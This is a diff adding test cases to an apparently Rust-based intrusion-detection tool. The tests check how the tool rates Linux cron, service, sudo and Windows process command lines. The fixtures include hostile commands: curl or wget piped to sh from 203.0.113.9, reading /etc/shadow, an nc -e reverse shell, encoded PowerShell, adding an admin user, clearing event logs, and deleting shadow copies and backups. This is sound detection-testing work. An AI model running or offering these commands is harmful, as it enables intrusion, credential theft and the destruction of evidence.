@@ -202,6 +202,8 @@ fn cron_keeps_what_it_runs() {
         ("curl -fsSL http://203.0.113.9/i.sh | sh", "HIGH persistence"),
         ("   wget -q -O - http://x.example/a | bash > /dev/null 2>&1", "HIGH persistence"),
         ("sh /var/tmp/run.sh", "HIGH persistence"),
+        ("cp -p /etc/passwd /etc/shadow /etc/group /srv/backup/", "LOW suspicious_process"),
+        ("cp -p /etc/shadow /srv/backup/", "MEDIUM suspicious_process"),
         ("echo Y3VybAo= | base64 -d | bash", "HIGH persistence"),
         ("cd /tmp && /usr/local/bin/backup.sh > /tmp/backup.log 2>&1", ""),
         ("find /tmp -mtime +7 -delete", ""),
@@ -236,6 +238,13 @@ fn shells_of_network_services() {
         ("/usr/sbin/php-fpm8.2", "sh -c /usr/sbin/sendmail -t -i", ""),
         ("/usr/sbin/apache2", "/bin/sh -c /usr/bin/rotatelogs /var/log/a 86400", ""),
         ("/usr/lib/postgresql/16/bin/postgres", "sh -c test ! -f /mnt/a && cp pg_wal/a /mnt/a", ""),
+        ("/usr/sbin/dnsmasq", "/bin/sh /usr/local/sbin/lease.sh add 52:54:00:00:00:01 10.0.0.5", ""),
+        ("/usr/sbin/dnsmasq", "sh -c id", "HIGH"),
+        ("/usr/sbin/mariadbd", "sh -c wsrep_sst_rsync --role donor", "LOW"),
+        ("/usr/sbin/smbd", "sh -c lpr -P laser /var/spool/samba/x", "LOW"),
+        ("/usr/sbin/mysqld", "bash -i", "HIGH"),
+        ("/usr/lib/jvm/java-17/bin/java", "bash -c id -gn alice; id -Gn alice", "LOW"),
+        ("/usr/lib/jvm/java-17/bin/java", "bash -c id; curl http://203.0.113.9/x", "HIGH"),
         ("/usr/sbin/cron", "/bin/sh -c id", ""),
         ("/usr/lib/systemd/systemd", "/bin/sh -c id", ""),
         ("/usr/sbin/sshd", "-bash", ""),
@@ -263,6 +272,8 @@ fn programs_in_folders_for_temporary_files() {
         ("/tmp/build/test", "/usr/bin/make", "dev", "LOW"),
         ("/tmp/apt.conf.x", "/usr/bin/dpkg", "root", ""),
         ("/var/tmp/mkinitramfs_x/bin/y", "/bin/sh", "root", ""),
+        ("/tmp/.ansible/tmp/ansible-tmp-1-1-1/AnsiballZ_apt.py", "/bin/sh", "root", ""),
+        ("/var/tmp/ansible-tmp-1-1-1/x", "/bin/sh", "root", ""),
         ("/tmp/go-build12/b001/x.test", "/usr/bin/go", "dev", ""),
         ("/tmp/.mount_app/AppRun", "/bin/bash", "dev", ""),
         ("/usr/bin/ls", "/bin/bash", "bob", ""),
@@ -314,6 +325,17 @@ fn windows_processes() {
             r"C:\Windows\System32\inetsrv\w3wp.exe",
             "HIGH suspicious_process",
         ),
+        ("powershell.exe -nop -w hidden -enc SQBFAFgA", r"C:\w\powershell.exe", "", "HIGH suspicious_process"),
+        ("net user x P /add", r"C:\w\net.exe", "", "MEDIUM persistence"),
+        ("net localgroup administrators x /add", r"C:\w\net.exe", "", "MEDIUM privilege_escalation"),
+        ("wevtutil clear-log Security", r"C:\w\wevtutil.exe", "", "HIGH log_tampering"),
+        ("auditpol /clear /y", r"C:\w\auditpol.exe", "", "HIGH log_tampering"),
+        ("wbadmin delete systemstatebackup", r"C:\w\wbadmin.exe", "", "HIGH ransomware"),
+        ("Get-WmiObject Win32_Shadowcopy | % {$_.Delete()}", r"C:\w\powershell.exe", "", "HIGH ransomware"),
+        ("mshta http://203.0.113.9/x.hta", r"C:\w\mshta.exe", "", "HIGH suspicious_process"),
+        ("regsvr32 /s /u /i:http://203.0.113.9/x.sct scrobj.dll", r"C:\w\regsvr32.exe", "", "HIGH suspicious_process"),
+        ("powershell.exe -EncodedCommand SQBFAFgA", r"C:\w\powershell.exe", "", ""),
+        ("net user x", r"C:\w\net.exe", "", ""),
         ("vssadmin list shadows", r"C:\Windows\System32\vssadmin.exe", "", ""),
         ("findstr mimikatz log.txt", r"C:\Windows\System32\findstr.exe", "", ""),
         ("cmd.exe /c dir", r"C:\Windows\System32\cmd.exe", r"C:\Windows\explorer.exe", ""),
@@ -399,5 +421,45 @@ fn what_an_application_quotes_was_run_by_nobody() {
     for text in [record.into(), format!("node=web {record}"), format!("audit: {record}")] {
         let text = said(line("audispd", 0, &text));
         assert!(text.starts_with("CRITICAL suspicious_process"), "{text}");
+    }
+}
+
+/// Images are built without logs; what was removed in an ordinary shell counts.
+#[test]
+fn an_image_that_is_built() {
+    let script = "/bin/sh -c apt-get update && apt-get install -y curl && rm -rf /var/lib/apt/lists/* /var/log/*";
+    for (parent, expected) in
+        [("/usr/bin/runc", "LOW"), ("/usr/bin/containerd-shim-runc-v2", "LOW"), ("/usr/bin/bash", "HIGH")]
+    {
+        let text = said(process("/bin/dash", script, parent, "root"));
+        assert!(text.starts_with(&format!("{expected} log_tampering")), "{parent}: {text}");
+    }
+    let ansible = process(
+        "/usr/bin/python3",
+        "/usr/bin/python3 /tmp/.ansible/tmp/ansible-tmp-1-1-1/AnsiballZ_apt.py",
+        "/bin/sh",
+        "root",
+    );
+    assert_eq!(said(ansible), "");
+}
+
+/// A folder that is called like a command hides none.
+#[test]
+fn folders_called_like_fields_of_sudo() {
+    for (text, expected) in [
+        (
+            "PWD=/tmp/x ; USER=nobody ; COMMAND=ls ; USER=root ; COMMAND=/bin/rm -f /var/log/auth.log",
+            "HIGH log_tampering",
+        ),
+        ("PWD=/tmp/COMMAND=ls ; USER=root ; COMMAND=/bin/rm -f /var/log/auth.log", "HIGH log_tampering"),
+        (
+            "PWD=/tmp/x ; COMMAND=ls ; COMMAND=id ; USER=root ; COMMAND=/usr/bin/nc -e /bin/sh 203.0.113.9 1",
+            "CRITICAL suspicious_process",
+        ),
+        ("PWD=/tmp/x ; USER=nobody ; COMMAND=ls ; USER=root ; COMMAND=/bin/ls", ""),
+    ] {
+        let text = said(line("sudo", 9, &format!("bob : TTY=pts/0 ; {text}")));
+        let short = text.split_once(':').map_or("", |(head, _message)| head);
+        assert_eq!(short, expected, "{text}");
     }
 }
